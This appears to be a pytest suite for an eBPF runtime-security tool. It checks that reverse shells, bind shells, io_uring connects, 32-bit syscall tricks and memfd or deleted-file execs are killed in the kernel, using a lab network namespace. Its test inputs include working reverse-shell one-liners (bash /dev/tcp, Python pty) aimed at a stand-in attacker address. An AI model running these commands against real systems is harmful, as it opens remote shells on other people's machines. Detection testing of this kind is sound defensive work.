"""Prevention before the first byte (issue 12): reverse and bind shells, io_uring connects and
nameless executables are stopped by the kernel itself (bpf_send_signal at the hook), and the
attacker's listener - a network-namespace test host, never a real interface - receives 0
bytes. Each workload runs in its own watched cgroup, in the lab's fake container namespace."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from coi_sentinel.events import model

from support import require_bpf

pytestmark = pytest.mark.bpf

PROGRAMS = Path(__file__).with_name("programs")
ATTACKER_IP = "203.0.113.7"
VICTIM_IP = "198.51.100.2"          # netlab.CONTAINER4


@pytest.fixture(scope="module")
def attack(tmp_path_factory) -> str:
    require_bpf()
    if shutil.which("gcc") is None:
        pytest.skip("needs gcc to build tests/bpf/programs/attack.c")
    exe = tmp_path_factory.mktemp("attack") / "attack"
    subprocess.run(["gcc", "-O2", "-o", str(exe), str(PROGRAMS / "attack.c")], check=True)
    return str(exe)


@pytest.fixture
def lab():
    require_bpf()
    from netlab import Lab

    if shutil.which("ip") is None or shutil.which("nsenter") is None:
        pytest.skip("needs ip (iproute2) and nsenter (util-linux) for the network-namespace hosts")
    lab = Lab().start()
    try:
        lab.add_host("attacker", v4=ATTACKER_IP)
        yield lab
    finally:
        assert lab.close() == []


def in_container(lab, argv: list[str]) -> list[str]:
    """argv run in the lab's fake container namespace (nsenter execs: no extra process)."""
    return ["nsenter", f"--net=/run/netns/{lab.container_ns}", *argv]


class Attacker:
    """attacker.py in the test host: a listener for reverse shells, a client for bind shells."""

    def __init__(self, lab, mode: str, ip: str, port: int, seconds: float = 8) -> None:
        ns = lab.hosts["attacker"].ns
        self.p = subprocess.Popen(["ip", "netns", "exec", ns, sys.executable, str(PROGRAMS / "attacker.py"),
                                   mode, ip, str(port), str(seconds)],
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        lab.procs.append(self.p)
        if mode == "listen":
            line = self.p.stdout.readline()
            assert line.strip() == "ready", self.p.stderr.read()

    def result(self) -> dict:
        out, err = self.p.communicate(timeout=30)
        return json.loads(out.strip().splitlines()[-1])


def died_of_sigkill(run, pid: int) -> bool:
    return any(e.signal == 9 for e in run.of(model.ExitEvent, pid=pid))


SHELL_KILL = {"shell_socket": True}


def test_reverse_shell_killed_at_the_dup_listener_gets_zero_bytes(watched, attack, lab):
    """connect, dup2 onto 0, 1, 2, exec sh: the program (no shell by name) is killed at the
    dup that makes both stdin and stdout the socket, before sh exists."""
    attacker = Attacker(lab, "listen", ATTACKER_IP, 4444)
    run = watched.run(in_container(lab, [attack, "connect", ATTACKER_IP, "4444"]), kill_policy=SHELL_KILL)
    assert attacker.result() == {"connected": True, "received": 0}
    assert run.returncode == -9
    killed = [d for d in run.of(model.DupEvent) if d.killed]
    assert len(killed) == 1 and killed[0].newfd == 1 and killed[0].daddr == ATTACKER_IP
    assert not run.of(model.ExecEvent, filename="/bin/sh")
    assert watched.probes.kill_counts().get("shell_socket", 0) >= 1


def test_shell_exec_with_a_socket_on_stdin_is_killed_before_it_runs(watched, attack, lab):
    """Only stdin is the socket (the program is no shell, one socket is no loop yet): the
    shell exec'd on it is killed at its exec, before its first instruction."""
    attacker = Attacker(lab, "listen", ATTACKER_IP, 4450)
    run = watched.run(in_container(lab, [attack, "connect-in", ATTACKER_IP, "4450"]), kill_policy=SHELL_KILL)
    assert attacker.result() == {"connected": True, "received": 0}
    assert run.returncode == -9 and run.stdout == b""
    shells = run.of(model.ExecEvent, filename="/bin/sh")
    assert len(shells) == 1 and shells[0].killed and shells[0].stdio_socket
    assert died_of_sigkill(run, shells[0].pid)


def test_bash_dev_tcp_reverse_shell_killed_at_the_dup(watched, lab):
    bash = shutil.which("bash")
    if bash is None:
        pytest.skip("needs bash")
    attacker = Attacker(lab, "listen", ATTACKER_IP, 4445)
    run = watched.run(in_container(lab, [bash, "-c", f"bash -i >& /dev/tcp/{ATTACKER_IP}/4445 0>&1"]),
                      kill_policy=SHELL_KILL)
    assert attacker.result() == {"connected": True, "received": 0}
    killed = [d for d in run.of(model.DupEvent) if d.killed]
    assert len(killed) == 1 and killed[0].is_socket and killed[0].daddr == ATTACKER_IP
    assert died_of_sigkill(run, killed[0].pid)


def test_reverse_shell_without_the_policy_is_alerted(watched, attack, lab):
    """The same shell in a scope without the kill policy: the kernel flags it, the rules alert
    (the control for the two tests above: the listener does get the prompt here)."""
    attacker = Attacker(lab, "listen", ATTACKER_IP, 4446)
    run = watched.run(in_container(lab, [attack, "connect", ATTACKER_IP, "4446"]), stdin=b"exit\n")
    got = attacker.result()
    assert got["connected"] and got["received"] > 0
    shells = run.of(model.ExecEvent, filename="/bin/sh")
    assert len(shells) == 1 and shells[0].stdio_socket and not shells[0].killed
    rules = {a.rule for a in watched.alerts(run.events)}
    assert {"reverse_shell_socket_dup", "reverse_shell_exec_socket_stdio"} <= rules


def test_bind_shell_accepted_socket_is_a_socket_on_stdio(watched, attack, lab):
    client = Attacker(lab, "connect", VICTIM_IP, 5555)
    run = watched.run(in_container(lab, [attack, "bind", "5555"]), kill_policy=SHELL_KILL)
    assert client.result() == {"connected": True, "received": 0}
    binds = run.of(model.BindEvent, lport=5555)
    assert len(binds) == 1 and binds[0].all_interfaces and binds[0].errno == 0
    listens = run.of(model.ListenEvent, lport=5555)
    assert len(listens) == 1 and listens[0].all_interfaces
    accepts = run.of(model.AcceptEvent, daddr=ATTACKER_IP)
    assert len(accepts) == 1 and accepts[0].fd >= 0 and not accepts[0].local_addr
    dups = [d for d in run.of(model.DupEvent) if d.pid == accepts[0].pid]
    assert [(d.newfd, d.is_socket, d.killed) for d in dups] == [(0, True, False), (1, True, True)]
    assert not run.of(model.ExecEvent, filename="/bin/sh") and run.returncode == -9
    assert "reverse_shell_socket_dup" in {a.rule for a in watched.alerts(run.events)}


def killed_before_the_shell(watched, attack, lab, mode: str, port: int, reason: str):
    """attack.c's `mode` reverse shell under the kill policy `reason` (and shell_socket): the
    kernel kills it before sh exists, the listener gets 0 bytes. Returns the run."""
    attacker = Attacker(lab, "listen", ATTACKER_IP, port)
    run = watched.run(in_container(lab, [attack, mode, ATTACKER_IP, str(port)]),
                      kill_policy={reason: True, "shell_socket": True})
    assert attacker.result()["received"] == 0
    assert run.returncode == -9
    assert not run.of(model.ExecEvent, filename="/bin/sh")
    assert watched.probes.kill_counts().get(reason, 0) >= 1
    return run


def test_io_uring_reverse_shell_killed_at_submission(watched, attack, lab):
    run = killed_before_the_shell(watched, attack, lab, "uring", 4447, "uring_connect")
    connects = run.of(model.UringEvent, op="connect")
    assert len(connects) == 1 and connects[0].killed and connects[0].pid == run.pid
    assert "io_uring_connect" in {a.rule for a in watched.alerts(run.events)}


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="32-bit calls through int $0x80 are x86-64's")
def test_32_bit_reverse_shell_killed_at_its_socket(watched, attack, lab):
    """socket, connect and dup2 through int $0x80 reach no syscall tracepoint: the generic
    sys_enter hook reports the 32-bit socket call and the kernel kills it there, before the
    connect: the listener gets nothing."""
    run = killed_before_the_shell(watched, attack, lab, "compat", 4448, "compat_syscall")
    calls = run.of(model.PrivEvent, op="compat_syscall")
    assert [(c.detail, c.killed, c.pid) for c in calls] == [("socket", True, run.pid)]
    assert "compat_syscall" in {a.rule for a in watched.alerts(run.events)}


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="32-bit calls through int $0x80 are x86-64's")
def test_32_bit_reverse_shell_without_the_policy_is_seen_call_by_call(watched, attack, lab):
    """The control: without the kill policy the shell reaches the listener, and each 32-bit
    call is an event (no connect or dup event exists for them: no tracepoint fires)."""
    attacker = Attacker(lab, "listen", ATTACKER_IP, 4449)
    run = watched.run(in_container(lab, [attack, "compat", ATTACKER_IP, "4449"]), stdin=b"exit\n")
    got = attacker.result()
    assert got["connected"] and got["received"] > 0
    calls = [c for c in run.of(model.PrivEvent, op="compat_syscall") if c.pid == run.pid]
    assert [(c.detail, c.arg0, c.killed) for c in calls] == [
        ("socket", 359, False), ("connect", 362, False), ("dup2", 63, False), ("dup2", 63, False),
        ("dup2", 63, False)]
    assert not run.of(model.ConnectEvent, pid=run.pid)
    assert "compat_syscall" in {a.rule for a in watched.alerts(run.events)}


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the x32 ABI is x86-64's")
def test_an_x32_call_is_reported_even_where_x32_is_off(watched, attack):
    run = watched.run([attack, "x32", "-"])
    assert run.returncode == 0, run.stderr
    calls = [c for c in run.of(model.PrivEvent, op="compat_syscall") if c.pid == run.pid]
    assert [(c.detail, c.arg0, c.arg1) for c in calls] == [("x32:39", 39, 2)]


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="32-bit calls through int $0x80 are x86-64's")
def test_64_bit_calls_with_a_32_bit_call_number_are_not_reported(watched, attack):
    """getuid, uname and dup2 have, as 64-bit calls, the numbers of 32-bit socketcall, dup2 and
    dup: the `syscall` instruction before the return address tells them apart."""
    kills = watched.probes.kill_counts().get("compat_syscall", 0)
    run = watched.run([attack, "compat-quiet", "-"], kill_policy={"compat_syscall": True})
    assert run.returncode == 0, run.stderr
    assert not run.of(model.PrivEvent, op="compat_syscall")
    assert watched.probes.kill_counts().get("compat_syscall", 0) == kills


def test_a_socket_dup2ed_by_a_child_sharing_the_fd_table_is_on_the_parents_stdio(watched, attack, lab):
    """clone(CLONE_FILES): the child's connect and dup2s change the parent's fd table too; the
    parent's exec of sh has the socket on stdin and stdout and is killed before it runs."""
    attacker = Attacker(lab, "listen", ATTACKER_IP, 4450)
    run = watched.run(in_container(lab, [attack, "clonefiles", ATTACKER_IP, "4450"]), kill_policy=SHELL_KILL)
    assert attacker.result()["received"] == 0
    shells = run.of(model.ExecEvent, filename="/bin/sh")
    assert len(shells) == 1 and shells[0].pid == run.pid and shells[0].stdio_socket and shells[0].killed


def test_a_socket_dup2ed_by_the_parent_is_on_the_stdio_of_a_child_sharing_the_fd_table(watched, attack, lab):
    """The other way round: the child was made (clone(CLONE_FILES)) before the parent connected
    and dup2'ed, so it inherited nothing; its exec of sh sees the shared table's socket."""
    attacker = Attacker(lab, "listen", ATTACKER_IP, 4451)
    run = watched.run(in_container(lab, [attack, "clonefiles-rev", ATTACKER_IP, "4451"]), kill_policy=SHELL_KILL)
    assert attacker.result()["received"] == 0
    shells = run.of(model.ExecEvent, filename="/bin/sh")
    assert len(shells) == 1 and shells[0].pid != run.pid and shells[0].stdio_socket and shells[0].killed


def test_a_socket_installed_by_seccomp_addfd_is_on_the_shells_stdio(watched, attack, lab):
    """SECCOMP_IOCTL_NOTIF_ADDFD puts the supervisor's socket on the waiting child's fds 0 and 1
    with no dup, no SCM_RIGHTS and no pidfd_getfd: the child's exec of sh is killed."""
    attacker = Attacker(lab, "listen", ATTACKER_IP, 4452)
    run = watched.run(in_container(lab, [attack, "addfd", ATTACKER_IP, "4452"]), kill_policy=SHELL_KILL)
    assert attacker.result()["received"] == 0
    shells = run.of(model.ExecEvent, filename="/bin/sh")
    assert len(shells) == 1 and shells[0].stdio_socket and shells[0].killed
    adds = run.of(model.PrivEvent, op="seccomp_addfd", pid=run.pid)
    assert [(a.arg1, a.detail) for a in adds] == [(0, "socket"), (1, "socket")]
    assert "shell_spawned_by_network_process" in {a.rule for a in watched.alerts(run.events)}


def test_io_uring_file_write_is_seen(watched, attack, tmp_path):
    target = tmp_path / "via-uring.txt"
    run = watched.run([attack, "uring-write", str(target), "hello through the ring"])
    assert run.returncode == 0, run.stderr
    assert target.read_text() == "hello through the ring"
    ops = {e.op for e in run.of(model.UringEvent, pid=run.pid)}
    assert {"openat", "write"} <= ops
    setup = run.of(model.PrivEvent, op="io_uring_setup")
    assert len(setup) == 1


@pytest.mark.parametrize("mode", ["unlinked", "tmpfile"])
def test_exec_of_a_nameless_file_is_alerted_and_killed(watched, attack, tmp_path, mode):
    arg = str(tmp_path / "dropper.bin") if mode == "unlinked" else str(tmp_path)
    run = watched.run([attack, mode, arg])
    assert run.returncode == 0, run.stderr         # the payload (sleep 1) ran
    execs = [e for e in run.of(model.ExecEvent, pid=run.pid) if e.argv[:1] == ("payload",)]
    assert len(execs) == 1 and execs[0].deleted and execs[0].via_fd
    assert "exec_deleted_file" in {a.rule for a in watched.alerts(run.events)}
    killed = watched.run([attack, mode, arg], kill_policy={"unlinked_exec": True})
    assert killed.returncode == -9
    execs = [e for e in killed.of(model.ExecEvent, pid=killed.pid) if e.argv[:1] == ("payload",)]
    assert len(execs) == 1 and execs[0].killed


MEMFD_EXEC = ("import os, sys\n"
              "fd = os.memfd_create('payload', 0)\n"
              "os.write(fd, open('/bin/true', 'rb').read())\n"
              "os.execv(sys.argv[1].replace('PID', str(os.getpid())).replace('FD', str(fd)), ['payload'])\n")


@pytest.mark.parametrize("path", ["/proc/PID/fd/FD", "/proc/thread-self/fd/FD", "/proc/self/fd/FD", "/dev/fd/FD"])
def test_exec_of_a_memfd_is_killed_whatever_proc_path_names_it(watched, py, path):
    """/proc/<own pid>/fd/N and /proc/thread-self/fd/N name the memfd as /proc/self/fd/N does:
    on main only the last two were recognised, the others ran unflagged and unkilled."""
    run = watched.run([py, "-c", MEMFD_EXEC, path], kill_policy={"memfd_exec": True})
    assert run.returncode == -9
    execs = [e for e in run.of(model.ExecEvent, pid=run.pid) if e.argv[:1] == ("payload",)]
    assert len(execs) == 1 and execs[0].from_memfd and execs[0].via_fd and execs[0].killed
    assert "exec_from_memfd" in {a.rule for a in watched.alerts(run.events)}


def test_python_pty_reverse_shell_killed_at_the_dup(watched, py, lab):
    """The interpreter keeps the socket and gives the shell a pty: the shell's stdio is no
    socket, so the kill comes at the interpreter's own dup2 of the socket onto its stdin."""
    attacker = Attacker(lab, "listen", ATTACKER_IP, 4448)
    code = (f"import os, pty, socket\ns = socket.create_connection(({ATTACKER_IP!r}, 4448))\n"
            "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)\n"
            "pty.spawn('/bin/sh')\n")
    run = watched.run(in_container(lab, [py, "-c", code]), kill_policy=SHELL_KILL)
    assert attacker.result() == {"connected": True, "received": 0}
    assert run.returncode == -9
    killed = [d for d in run.of(model.DupEvent) if d.killed]
    assert len(killed) == 1 and killed[0].newfd == 0 and killed[0].pid == run.pid
    assert not run.of(model.ExecEvent, filename="/bin/sh")


def test_renamed_bash_is_killed_when_stdin_and_stdout_are_the_socket(watched, lab, tmp_path):
    """A copy of bash under another name is no shell by name; a process with network sockets
    on both stdin and stdout is one by shape, killed at the dup that completes it."""
    bash = shutil.which("bash")
    if bash is None:
        pytest.skip("needs bash")
    renamed = tmp_path / "kworker"
    shutil.copy(bash, renamed)
    attacker = Attacker(lab, "listen", ATTACKER_IP, 4449)
    script = f"exec 0<>/dev/tcp/{ATTACKER_IP}/4449; exec 1>&0 2>&0; echo still-here"
    run = watched.run(in_container(lab, [str(renamed), "-c", script]), kill_policy=SHELL_KILL)
    assert attacker.result() == {"connected": True, "received": 0}
    assert run.returncode == -9
    killed = [d for d in run.of(model.DupEvent) if d.killed]
    assert len(killed) == 1 and killed[0].newfd == 1 and killed[0].comm == "kworker"


@pytest.mark.parametrize("call", ["sendto", "sendmsg"])
def test_tcp_fast_open_to_a_blocked_port_is_a_blocked_connect(watched, py, lab, call):
    """sendto/sendmsg(MSG_FASTOPEN) connect with no connect(): still a connect to the kill policy."""
    attacker = Attacker(lab, "listen", ATTACKER_IP, 4451, seconds=3)
    code = (f"import socket\ns = socket.socket()\n"
            + ("s.sendto(b'stolen secrets', socket.MSG_FASTOPEN" if call == "sendto" else
               "s.sendmsg([b'stolen secrets'], [], socket.MSG_FASTOPEN")
            + f", ({ATTACKER_IP!r}, 4451))\n")
    run = watched.run(in_container(lab, [py, "-c", code]), kill_policy={"ports": [4451]})
    assert attacker.result()["received"] == 0
    assert run.returncode == -9
    conns = run.of(model.ConnectEvent, daddr=ATTACKER_IP, dport=4451)
    assert len(conns) == 1 and conns[0].killed


def test_a_socket_passed_over_scm_rights_meets_the_shell_socket_kill_policy(watched, attack, lab):
    """attack.c scm: the receiver (no shell by name) is killed at the dup that makes both its
    stdin and stdout the passed socket, as at a dup of one it connected; /bin/sh never runs and
    the listener gets no prompt."""
    attacker = Attacker(lab, "listen", ATTACKER_IP, 4452)
    run = watched.run(in_container(lab, [attack, "scm", ATTACKER_IP, "4452"]), kill_policy=SHELL_KILL)
    assert attacker.result() == {"connected": True, "received": 0}
    assert run.returncode == 0, run.stderr
    [passed] = run.of(model.PrivEvent, op="scm_rights")
    assert (passed.arg0, passed.arg1) == (run.pid, 1)
    receiver = passed.pid
    dups = run.of(model.DupEvent, pid=receiver)
    assert [(d.newfd, d.is_socket, d.killed) for d in dups] == [(0, True, False), (1, True, True)]
    assert dups[1].daddr == ATTACKER_IP
    assert died_of_sigkill(run, receiver)
    assert not run.of(model.ExecEvent, filename="/bin/sh")
    assert watched.probes.kill_counts().get("shell_socket", 0) >= 1
